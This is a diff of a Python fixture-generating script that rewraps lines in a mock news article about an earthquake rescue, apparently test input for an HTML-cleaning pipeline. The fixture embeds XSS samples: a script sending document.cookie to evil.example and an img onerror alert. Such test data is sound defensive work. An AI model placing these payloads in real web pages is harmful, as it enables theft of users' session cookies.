@@ -102,11 +102,13 @@ def main():
 <script>alert('head script')</script></head><body>
 <iframe src="https://ads.example/track"></iframe>
 <article><h1>Quake survivors found</h1>
-<p>Rescue teams pulled 14 survivors from the collapsed building in the city centre on Tuesday, the regional
-governor said, adding that more than 200 people were still missing after the earthquake.</p>
+<p>Rescue teams pulled 14 survivors from the collapsed building in the city centre on
+Tuesday, the regional governor said, adding that more than 200 people were still missing
+after the earthquake.</p>
 <script>document.location='https://evil.example/?c='+document.cookie</script>
 <p>Officials said the search would continue through the night with the help of teams from three
-neighbouring countries, and that the airport would reopen on Thursday.<img src=x onerror="alert(1)"></p>
+neighbouring countries, and that the airport would reopen on Thursday.
+<img src=x onerror="alert(1)"></p>
 </article></body></html>""",
     )
     write(
@@ -169,13 +171,15 @@ neighbouring countries, and that the airport would reopen on Thursday.<img src=x
                 json.dumps(
                     {
                         "id": "same",
-                        "text": "The bridge reopened to traffic on Monday after two years of repairs.",
+                        "text": "The bridge reopened to traffic on Monday after two years"
+                        " of repairs.",
                     }
                 ),
                 json.dumps(
                     {
                         "id": "same",
-                        "text": "A different story: the harbour closed for the storm on Sunday night.",
+                        "text": "A different story: the harbour closed for the storm on"
+                        " Sunday night.",
                     }
                 ),
             ]
